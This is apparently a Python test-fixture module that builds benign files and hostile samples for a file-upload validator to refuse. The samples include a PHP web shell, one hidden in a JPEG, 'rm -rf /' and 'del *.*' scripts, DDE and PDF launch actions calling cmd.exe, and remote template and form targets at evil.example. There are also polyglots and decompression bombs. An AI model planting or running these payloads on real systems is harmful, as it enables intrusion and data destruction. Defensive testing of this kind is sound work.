"""Files of every kind, made in code: what people send, and what nobody should have to open.

``GOOD`` maps a name to (content, kind); ``BAD`` to content that must be refused or held back.
"""

import base64
import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

from tests.intake.evidence.containers import box, compound, overlapping, zipped

EXE = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 60
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
TYPES = b'<?xml version="1.0"?><Types><Override PartName="/x" ContentType="application/xml"/></Types>'
RELS = (
    b'<?xml version="1.0"?><Relationships>'
    b'<Relationship Id="1" Type="http://x/officeDocument" Target="x"/></Relationships>'
)
WORD = {
    "[Content_Types].xml": TYPES, "_rels/.rels": RELS,
    "word/document.xml": b"<?xml version='1.0'?><w:document><w:t>Dear Sir</w:t></w:document>",
}  # fmt: skip
SHEET = {"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "xl/workbook.xml": b"<workbook/>"}
SLIDES = {"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "ppt/presentation.xml": b"<p:presentation/>"}
EMAIL = (
    b"From: Jo Bloggs <jo@example.org>\r\nTo: office@example.org\r\nSubject: The lesson\r\n"
    b"Date: Thu, 2 Apr 2026 17:30:00 +0100\r\nMIME-Version: 1.0\r\n"
)
WORKBOOK_START = struct.pack("<HH16s", 0x809, 16, b"\x00\x06\x05\x00".ljust(16, b"\0"))


def png(width: int = 2, height: int = 2, extra: bytes = b"") -> bytes:
    """Return a small PNG that says it is so large."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rows = chunk(b"IDAT", zlib.compress((b"\x00" + b"\x10\x20\x30" * 2) * 2))
    return b"\x89PNG\r\n\x1a\n" + head + extra + rows + chunk(b"IEND", b"")


@cache
def picture(form: str, size: tuple[int, int] = (64, 48)) -> bytes:
    """Return a picture as a camera's program writes it."""
    from PIL import Image
    from pillow_heif import register_heif_opener

    register_heif_opener()
    out = io.BytesIO()
    image = Image.new("RGB", size, (200, 180, 40))
    image.save(out, form)
    return out.getvalue()


def pdf(body: bytes = b"", catalogue: bytes = b"") -> bytes:
    """Return a PDF of one empty page, with more objects and more in its catalogue."""
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    out += body
    start = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start


def packed_objects(content: bytes, how: bytes = b"/FlateDecode") -> bytes:
    """Return a PDF's packed objects."""
    data = zlib.compress(content)
    head = b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n" % (how, len(data))
    return head + data + b"\nendstream\nendobj\n"


def film(brand: bytes, *more: bytes) -> bytes:
    """Return a film as a telephone writes it, as far as its boxes go."""
    return (
        box(b"ftyp", brand + b"\0\0\0\0" + brand)
        + box(b"moov", box(b"mvhd", b"\0" * 100))
        + box(b"mdat", b"\x17" * 4000)
        + b"".join(more)
    )


def mp3(label: bytes = b"") -> bytes:
    """Return some silent frames at 128 kbit/s."""
    return label + (b"\xff\xfb\x90\x00" + b"\x00" * 413) * 6


def wav() -> bytes:
    data = b"\x00" * 800
    form = struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8)
    body = b"WAVEfmt " + struct.pack("<I", len(form)) + form + b"data" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def aac() -> bytes:
    frame = bytes([0xFF, 0xF1, 0x50, 0x80 | 0, (32 >> 3) & 0xFF, (32 & 7) << 5 | 0x1F, 0xFC]) + b"\0" * 25
    return frame * 8


def mail(attached: str = "", content: bytes = b"") -> bytes:
    """Return an e-mail, with something attached where a name is given."""
    if not attached:
        return EMAIL + b"Content-Type: text/plain\r\n\r\nWhere was the teacher?\r\n"
    encoded = base64.encodebytes(content.ljust(120, b"\0"))
    return (
        EMAIL + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n'
        b"<html><body>See attached.</body></html>\r\n--b\r\nContent-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="' + attached.encode() + b'"\r\n\r\n'
        + encoded.replace(b"\n", b"\r\n") + b"\r\n--b--\r\n"
    )  # fmt: skip


def odf(kind: str, more: dict[str, bytes] | None = None) -> bytes:
    members = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
        "content.xml": b"<?xml version='1.0'?><office:document-content/>",
        "META-INF/manifest.xml": b"<?xml version='1.0'?><manifest:manifest/>",
        **(more or {}),
    }
    return zipped(members, stored=("mimetype",))


@cache
def written_docx() -> bytes:
    """Return a document as a library writes it."""
    from docx import Document

    out, document = io.BytesIO(), Document()
    document.add_paragraph("Dear Sir, the teacher never came.")
    document.save(out)
    return out.getvalue()


@cache
def written_xlsx() -> bytes:
    from openpyxl import Workbook

    out, book = io.BytesIO(), Workbook()
    book.active.append(["Day", "Hours"])
    book.save(out)
    return out.getvalue()


@cache
def printed_pdf() -> bytes:
    """Return a PDF as it is printed, with its objects packed."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.add_blank_page(100, 100)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


Made = Callable[[], bytes]
GOOD: dict[str, tuple[Made, str]] = {
    "photo.jpg": (lambda: picture("JPEG"), "jpeg"),
    "moving photo.jpg": (lambda: picture("JPEG") + film(b"mp42"), "jpeg"),
    "screenshot.png": (lambda: picture("PNG"), "png"),
    "funny.gif": (lambda: picture("GIF"), "gif"),
    "from the web.webp": (lambda: picture("WEBP"), "webp"),
    "iphone.heic": (lambda: picture("HEIF"), "heic"),
    "scan.tiff": (lambda: picture("TIFF"), "tiff"),
    "wrongly named.exe.png": (lambda: picture("PNG"), "png"),
    "no ending": (lambda: picture("JPEG"), "jpeg"),
    "letter.pdf": (pdf, "pdf"),
    "printed.pdf": (printed_pdf, "pdf"),
    "packed.pdf": (lambda: pdf(packed_objects(b"1 0 << /Type /Font >>")), "pdf"),
    "letter.docx": (written_docx, "docx"),
    "by hand.docx": (lambda: zipped(WORD), "docx"),
    "table within.docx": (
        lambda: zipped({**WORD, "word/embeddings/Sheet1.xlsx": zipped(SHEET)}), "docx",
    ),
    "hours.xlsx": (written_xlsx, "xlsx"),
    "slides.pptx": (lambda: zipped(SLIDES), "pptx"),
    "old.doc": (lambda: compound({"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 60, "1Table": b"x"}), "doc"),
    "old.xls": (lambda: compound({"Workbook": WORKBOOK_START + struct.pack("<HH", 0x0A, 0)}), "xls"),
    "old.ppt": (lambda: compound({"PowerPoint Document": b"\x0f\x00\xe8\x03", "Current User": b"x"}), "ppt"),
    "saved.msg": (lambda: compound({"__properties_version1.0": b"x", "__nameid_version1.0/__substg1.0_00020102": b"x"}),
                  "msg"),
    "letter.odt": (lambda: odf("text"), "odt"),
    "hours.ods": (lambda: odf("spreadsheet"), "ods"),
    "slides.odp": (lambda: odf("presentation"), "odp"),
    "saved.eml": (mail, "eml"),
    "with a picture.eml": (lambda: mail("photo.png", png()), "eml"),
    "notes.txt": (lambda: "Zwölf Stühle, £5 – and < than that".encode(), "text"),
    "older notes.txt": (lambda: "Café £5\r\nDear Sir".encode("latin-1"), "text"),
    "windows notes.txt": (lambda: "Dear Sir,\r\nno.".encode("utf-16"), "text"),
    "hours.csv": (lambda: b"day,hours\n2026-03-27,3\n", "text"),
    "voice.mp3": (mp3, "mp3"),
    "labelled.mp3": (lambda: mp3(b"ID3\x03\x00\x00\x00\x00\x00\x0aTIT2\0\0\0\0\0\0"), "mp3"),
    "memo.m4a": (lambda: film(b"M4A "), "m4a"),
    "call.wav": (wav, "wav"),
    "voice note.ogg": (lambda: b"OggS\x00\x02" + b"\0" * 22 + b"OpusHead\x01\x01" + b"\0" * 200, "ogg"),
    "memo.aac": (aac, "aac"),
    "memo.amr": (lambda: b"#!AMR\n" + (b"\x3c" + b"\x11" * 31) * 5, "amr"),
    "film.mp4": (lambda: film(b"isom"), "mp4"),
    "film.mov": (lambda: film(b"qt  "), "mov"),
    "film.3gp": (lambda: film(b"3gp4"), "3gp"),
    "screen.webm": (lambda: b"\x1a\x45\xdf\xa3\x93\x42\x82\x84webm" + b"\x01" * 300, "webm"),
    "screen.mkv": (lambda: b"\x1a\x45\xdf\xa3\x97\x42\x82\x88matroska" + b"\x01" * 300, "mkv"),
}  # fmt: skip

PULL = (
    b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
XLM = struct.pack("<HHIBB", 0x85, 14, 0, 0, 1) + b"\x06\x00Macro1"


BAD: dict[str, Made] = {
    "page.html": lambda: HTML,
    "page called.txt": lambda: b"  \n<html><body onload=alert(1)>",
    "drawing.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "drawing with a head.png": lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>',
    "page in utf-16.txt": lambda: "<html><script>alert(1)</script>".encode("utf-16"),
    "words then page.txt": lambda: b"Dear Sir,\n" + b"x\n" * 200_000 + b"<script>alert(1)</script>",
    "program.exe": lambda: EXE,
    "program called photo.jpg": lambda: EXE,
    "program for linux": lambda: ELF,
    "program for mac": lambda: b"\xcf\xfa\xed\xfe" + b"\0" * 60,
    "java.class": lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 40,
    "shortcut.lnk": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60,
    "installer.msi": lambda: compound({"!Property": b"x", "Binary.Setup": EXE}),
    "script.sh": lambda: b"#!/bin/sh\nrm -rf /\n",
    "script called.txt": lambda: b"#!/usr/bin/env python3\nprint()\n",
    "script.bat": lambda: b"@echo off\r\ndel *.*\r\n",
    "script.js": lambda: b"var a = 1;\n",
    "script.vbs called.txt": lambda: b'Set s = CreateObject("WScript.Shell")\r\n',
    "script.ps1": lambda: b"Get-ChildItem\n",
    "script.php": lambda: b"<?php system($_GET['x']); ?>",
    "registry.reg": lambda: b"Windows Registry Editor Version 5.00\r\n",
    "link.url": lambda: b"[InternetShortcut]\r\nURL=http://evil.example/\r\n",
    "rich.rtf": lambda: b"{\\rtf1\\ansi {\\object\\objdata 0105}}",
    "archive.zip": lambda: zipped({"one.txt": b"one"}),
    "archive called letter.docx": lambda: zipped({"one.txt": b"one"}),
    "program.jar": lambda: zipped({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}),
    "phone.apk": lambda: zipped({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035"}),
    "archive.rar": lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 40,
    "archive.7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 40,
    "archive.gz": lambda: b"\x1f\x8b\x08\x00" + zlib.compress(b"x" * 100),
    "archive.tar": lambda: b"one.txt".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 1000,
    "macros.docm": lambda: zipped({**WORD, "word/vbaProject.bin": compound({"VBA/dir": b"x"})}),
    "macros called.docx": lambda: zipped({**WORD, "word/other.bin": compound({"_VBA_PROJECT": b"x"})}),
    "macro types.docx": lambda: zipped(
        {**WORD, "[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}
    ),
    "template from elsewhere.docx": lambda: zipped({**WORD, "word/_rels/settings.xml.rels": PULL}),
    "program within.docx": lambda: zipped({**WORD, "word/media/image1.png": EXE}),
    "package within.docx": lambda: zipped(
        {**WORD, "word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": EXE})}
    ),
    "commands.docx": lambda: zipped({**WORD, "word/document.xml": b"<w:instrText> DDEAUTO c:\\cmd.exe</w:instrText>"}),
    "old macro sheet.xlsx": lambda: zipped({**SHEET, "xl/macrosheets/sheet1.xml": b"<x/>"}),
    "control.docx": lambda: zipped({**WORD, "word/activeX/activeX1.bin": b"x"}),
    "entities.docx": lambda: zipped(
        {**WORD, "word/document.xml": b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>'}
    ),
    "macros.doc": lambda: compound({"WordDocument": b"\xec\xa5", "Macros/VBA/dir": b"x"}),
    "macros.xls": lambda: compound({"Workbook": WORKBOOK_START, "_VBA_PROJECT_CUR/VBA/dir": b"x"}),
    "macro sheet.xls": lambda: compound({"Workbook": WORKBOOK_START + XLM}),
    "macros.ppt": lambda: compound({"PowerPoint Document": b"\x0f\x00\xe8\x03" + b"\0" * 900 + b"\x0f\x00\xff\x03"}),
    "package.doc": lambda: compound({"WordDocument": b"\xec\xa5", "ObjectPool/_1/\x01Ole10Native": EXE}),
    "locked.docx": lambda: compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
    "basic.odt": lambda: odf("text", {"Basic/Standard/Module1.xml": b"<x/>"}),
    "script.ods": lambda: odf("spreadsheet", {"Scripts/python/x.py": b"import os"}),
    "listener.odt": lambda: odf(
        "text", {"content.xml": b'<script:event-listener xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>'}
    ),
    "program attached.eml": lambda: mail("invoice.pdf.exe", EXE),
    "program called otherwise.eml": lambda: mail("invoice.pdf", EXE),
    "page attached.eml": lambda: mail("open me.html", HTML),
    "attached.msg": lambda: compound(
        {"__properties_version1.0": b"x", "__attach_version1.0_#00000000/__substg1.0_37010102": EXE}
    ),
    "named.msg": lambda: compound(
        {"__properties_version1.0": b"x",
         "__attach_version1.0_#00000000/__substg1.0_3707001F": "run.js".encode("utf-16-le")}
    ),
    "script.pdf": lambda: pdf(catalogue=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "hidden script.pdf": lambda: pdf(catalogue=b"/OpenAction << /S /J#61va#53cript /JS (app.alert(1)) >>"),
    "packed script.pdf": lambda: pdf(packed_objects(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>")),
    "twice packed.pdf": lambda: pdf(packed_objects(b"x", b"[/ASCIIHexDecode /FlateDecode]")),
    "bomb.pdf": lambda: pdf(packed_objects(b"\0" * 40_000_000)),
    "launch.pdf": lambda: pdf(catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "attached.pdf": lambda: pdf(b"9 0 obj\n<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream\nendobj\n"),
    "locked.pdf": lambda: pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R"),
    "form that sends.pdf": lambda: pdf(catalogue=b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>"),
    "pdf and zip.pdf": lambda: pdf() + zipped({"x.class": b"\xca\xfe\xba\xbe"}),
    "pdf and page.pdf": lambda: pdf() + HTML,
    "page and pdf.pdf": lambda: HTML + pdf(),
    "zip behind a comment.pdf": lambda: pdf(b"% " + zipped({"x.txt": b"x"}) + b"\n"),
    "picture and pdf.jpg": lambda: picture("JPEG") + pdf(),
    "gifar.gif": lambda: picture("GIF") + zipped({"META-INF/MANIFEST.MF": b"Main-Class: X"}),
    "picture and zip.png": lambda: png() + zipped({"x.txt": b"x"}),
    "picture and rar.jpg": lambda: picture("JPEG") + b"Rar!\x1a\x07\x01\x00" + b"\0" * 50,
    "picture and program.png": lambda: png() + EXE,
    "picture with php.jpg": lambda: picture("JPEG").replace(
        b"\xff\xd8", b"\xff\xd8\xff\xfe\x00\x1c<?php system($_GET['x']); ", 1
    ),
    "picture with a page.png": lambda: png(extra=struct.pack(">I", 20) + b"tEXt<script>alert()</scr" + b"\0" * 4),
    "picture with phar.jpg": lambda: picture("JPEG") + b"<?php __HALT_COMPILER(); ?>",
    "picture that begins as gif.gif": lambda: b"GIF89a/*" + b"<script>alert(1)</script>" + b"*/",
    "bomb.png": lambda: png(60_000, 60_000),
    "wide.png": lambda: png(2_000_000_000, 1),
    "bomb.gif": lambda: b"GIF89a\xff\xff\xff\xff\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x44\x01\0;",
    "bomb.docx": lambda: zipped({**WORD, "word/media/zeros.bmp": b"\0" * 30_000_000}),
    "bomb of one place.docx": lambda: overlapping(b"\0" * 1_000_000, 250),
    "film and zip.mp4": lambda: film(b"isom") + zipped({"x.txt": b"x"}),
    "film and program.mp4": lambda: film(b"isom") + EXE,
    "sound and page.wav": lambda: wav() + HTML,
    "sound and zip.mp3": lambda: mp3() + zipped({"x.txt": b"x"}),
    "cut off.png": lambda: png()[:-20],
    "cut off.docx": lambda: zipped(WORD)[:-30],
    "noise.dat": lambda: bytes(range(256)) * 20,
    "disk.iso": lambda: b"\0" * 0x8001 + b"CD001" + b"\0" * 4000,
}  # fmt: skip
